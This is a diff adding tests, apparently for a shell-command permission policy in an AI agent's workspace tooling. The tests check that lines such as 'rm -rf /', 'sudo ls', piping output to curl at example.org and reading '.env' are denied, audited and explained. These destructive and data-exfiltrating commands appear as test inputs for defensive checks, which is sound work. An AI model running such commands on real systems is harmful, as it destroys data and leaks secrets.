@@ -366,3 +366,58 @@ describe('the shell itself', () => {
     expect(await running).toMatchObject({ ok: false, code: 'ABORTED' })
   })
 })
+
+describe('a line', () => {
+  it('is judged before anything of it runs, and can be explained', async () => {
+    const policy = { preset: 'autonomous', commands: { deny: ['curl'] } } as const
+    const { run, workspace } = await shellBench({ 'a.txt': 'a', '.env': 'x' }, { shell: bash(), policy })
+    for (const line of [
+      'sudo ls',
+      'rm -rf /',
+      'echo a; curl example.org',
+      'echo x > ../out',
+      'cmd=ls; $cmd',
+      'echo "',
+    ]) {
+      expect(await run(line), line).toMatchObject({ ok: false, code: 'COMMAND_DENIED' })
+    }
+    expect(await run("echo sudo; grep 'rm -rf /' a.txt")).toMatchObject({ ok: true, stdout: 'sudo\n' })
+    expect(await workspace.explain('run_command', { command: 'ls | curl -d @- example.org' })).toMatchObject({
+      ok: true,
+      verdict: { decision: 'deny' },
+      line: { commands: [{ name: 'ls' }, { name: 'curl' }], reasons: [{ code: 'POLICY_DENIED' }] },
+    })
+  })
+
+  it('is refused for a file that it plainly opens, by the same rules as any call', async () => {
+    const { run, workspace } = await shellBench({ '.env': 'x' }, { shell: bash() })
+    expect(await run('cat < .env')).toMatchObject({ ok: false, code: 'POLICY_DENIED_SECRET', path: '.env' })
+    expect(workspace.auditRecords().at(-1)?.refusals).toEqual([
+      { permission: 'file:read', path: '.env', code: 'POLICY_DENIED_SECRET' },
+    ])
+  })
+
+  it('meets rules on commands with each of its commands', async () => {
+    const rules = [
+      { name: 'look', action: 'allow', permissions: ['command:run'], commands: ['ls*', 'cat *'] },
+      { name: 'no sed', action: 'deny', commands: ['sed *'] },
+    ] as const
+    const asked: string[] = []
+    const { run } = await shellBench(
+      { 'a.txt': 'a' },
+      {
+        shell: bash(),
+        policy: { preset: 'supervised', rules },
+        approve: async ({ tool }) => {
+          asked.push(tool)
+          return 'allow' as const
+        },
+      },
+    )
+    expect(await run('ls && cat a.txt')).toMatchObject({ ok: true })
+    expect(asked).toEqual([])
+    expect(await run('ls && wc a.txt')).toMatchObject({ ok: true })
+    expect(asked).toEqual(['run_command'])
+    expect(await run('ls; true | sed p a.txt')).toMatchObject({ ok: false, code: 'COMMAND_DENIED' })
+  })
+})
